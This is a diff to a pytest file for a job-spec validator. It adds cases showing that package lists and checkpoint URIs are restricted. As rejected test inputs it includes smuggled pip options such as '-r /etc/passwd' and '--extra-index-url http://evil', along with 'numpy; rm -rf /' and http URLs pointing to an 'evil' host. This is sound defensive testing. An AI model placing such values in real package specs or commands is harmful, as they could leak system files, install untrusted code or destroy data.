@@ -61,7 +61,7 @@ BAD_SPECS = [
     ),
     pytest.param(with_(checkpoint=[1]), "checkpoint", "mapping", id="ckpt-not-mapping"),
     pytest.param(
-        with_(checkpoint={"uri": "gs://b"}), "checkpoint.uri", "s3:// or file://", id="bad-uri"
+        with_(checkpoint={"uri": "gs://b"}), "checkpoint.uri", "s3://bucket/prefix", id="bad-uri"
     ),
     pytest.param(
         with_(working_dir="s3://b/src.zip", runtime_env={"working_dir": "s3://b/other.zip"}),
@@ -306,6 +306,118 @@ UNSAFE_SPECS = [
 ]
 
 
+PIP_OPTIONS = "only one requirement specifier per item"
+
+UNSAFE_PACKAGES_AND_CHECKPOINTS = [
+    pytest.param(
+        {"pip": ["numpy\n-r /etc/passwd\n--extra-index-url http://evil"]},
+        "runtime_env.pip[0]",
+        PIP_OPTIONS,
+        id="pip-newline-smuggles-options",
+    ),
+    pytest.param(
+        {"pip": ["foo --index-url http://evil/"]},
+        "runtime_env.pip[0]",
+        PIP_OPTIONS,
+        id="pip-trailing-option",
+    ),
+    pytest.param(
+        {"pip": ["torch==2.5.1 --hash=sha256:00"]}, "runtime_env.pip[0]", PIP_OPTIONS, id="pip-hash"
+    ),
+    pytest.param({"pip": ["numpy; rm -rf /"]}, "runtime_env.pip[0]", PIP_OPTIONS, id="bad-marker"),
+    pytest.param({"pip": ["../pkg"]}, "runtime_env.pip[0]", PIP_OPTIONS, id="pip-parent-path"),
+    pytest.param(
+        {"pip": ["evil-1.0-py3-none-any.whl"]}, "runtime_env.pip[0]", PIP_OPTIONS, id="pip-wheel"
+    ),
+    pytest.param(
+        {"pip": ["x @ http://evil/x.whl"]}, "runtime_env.pip[0]", "https://", id="pip-http-url"
+    ),
+    pytest.param(
+        {"uv": ["x @ git+https://h/x.git"]}, "runtime_env.uv[0]", "https://", id="uv-vcs-url"
+    ),
+    pytest.param(
+        {"uv": {"packages": ["x @ file:///srv/x"]}},
+        "runtime_env.uv.packages[0]",
+        "https://",
+        id="uv-dict-file-url",
+    ),
+    pytest.param(
+        {"pip": {"packages": ["numpy"], "pip_version": "==24.0 --index-url http://evil"}},
+        "runtime_env.pip.pip_version",
+        "version specifier",
+        id="pip-version-option",
+    ),
+    pytest.param(
+        {"conda": {"dependencies": ["numpy", {"pip": ["-r /etc/passwd"]}]}},
+        "runtime_env.conda.dependencies[1].pip[0]",
+        PIP_OPTIONS,
+        id="conda-nested-pip-option",
+    ),
+    pytest.param(
+        {"conda": {"dependencies": ["numpy --override-channels"]}},
+        "runtime_env.conda.dependencies[0]",
+        "no options",
+        id="conda-option",
+    ),
+    pytest.param(
+        {"conda": {"dependencies": ["file:///srv/pkg.tar.bz2"]}},
+        "runtime_env.conda.dependencies[0]",
+        "no options, URLs, paths",
+        id="conda-file-url",
+    ),
+    pytest.param(
+        {"conda": {"dependencies": ["/srv/pkg.conda"]}},
+        "runtime_env.conda.dependencies[0]",
+        "paths",
+        id="conda-path",
+    ),
+    pytest.param(
+        {"conda": {"channels": ["file:///srv/channel"], "dependencies": ["numpy"]}},
+        "runtime_env.conda.channels[0]",
+        "https://",
+        id="conda-file-channel",
+    ),
+    pytest.param(
+        {"conda": {"dependencies": ["numpy"], "prefix": "/opt/ray"}},
+        "runtime_env.conda.prefix",
+        "unknown key",
+        id="conda-prefix",
+    ),
+    pytest.param(
+        {"conda": {"dependencies": ["numpy"], "variables": {"RAY_ADDRESS": "x"}}},
+        "runtime_env.conda.variables",
+        "unknown key",
+        id="conda-variables",
+    ),
+]
+
+
+@pytest.mark.parametrize(("runtime_env", "field", "message"), UNSAFE_PACKAGES_AND_CHECKPOINTS)
+def test_package_lists_are_one_requirement_per_item(
+    runtime_env: dict[str, Any], field: str, message: str
+) -> None:
+    with pytest.raises(SpecError) as info:
+        JobSpec.from_dict(with_(runtime_env=runtime_env))
+    assert field in info.value.fields
+    assert message in str(info.value)
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        pytest.param("file:///var/lib/rcp/ckpt", id="file-uri"),
+        pytest.param("/mnt/ckpt", id="local-path"),
+        pytest.param("s3:///no-bucket", id="no-bucket"),
+        pytest.param("s3://b/jobs/../other", id="dot-dot"),
+        pytest.param("gs://b/x", id="other-scheme"),
+    ],
+)
+def test_checkpoint_uri_must_be_remote(uri: str) -> None:
+    with pytest.raises(SpecError) as info:
+        JobSpec.from_dict(with_(checkpoint={"uri": uri}))
+    assert info.value.fields == ("checkpoint.uri",)
+
+
 @pytest.mark.parametrize(("data", "field", "message"), UNSAFE_SPECS)
 def test_unsafe_or_non_finite_spec_is_refused_naming_the_field(
     data: dict[str, Any], field: str, message: str
@@ -325,6 +437,26 @@ def test_unsafe_or_non_finite_spec_is_refused_naming_the_field(
         pytest.param({"pip": {"packages": ["numpy"], "pip_check": False}}, id="pip-dict"),
         pytest.param({"conda": "pytorch-env"}, id="conda-name"),
         pytest.param({"conda": {"dependencies": ["numpy"]}}, id="conda-mapping"),
+        pytest.param(
+            {
+                "conda": {
+                    "name": "train",
+                    "channels": ["conda-forge", "https://conda.example.com/main"],
+                    "dependencies": [
+                        "python=3.11",
+                        "conda-forge::numpy>=1.26",
+                        "pytorch 2.5.* py311*",
+                        {"pip": ["transformers==4.46.0", "x[extra]>=1; python_version>'3.10'"]},
+                    ],
+                }
+            },
+            id="conda-full-mapping",
+        ),
+        pytest.param(
+            {"pip": ["numpy >= 1.26", "pkg @ https://files.example.com/pkg-1.0.tar.gz"]},
+            id="pip-spaces-and-https-url",
+        ),
+        pytest.param({"pip": {"packages": ["numpy"], "pip_version": "==24.0"}}, id="pip-version"),
         pytest.param(
             {"env_vars": {"RCP_TRAIN_CONFIG": "{}", "OMP_NUM_THREADS": 4}}, id="env-user-vars"
         ),
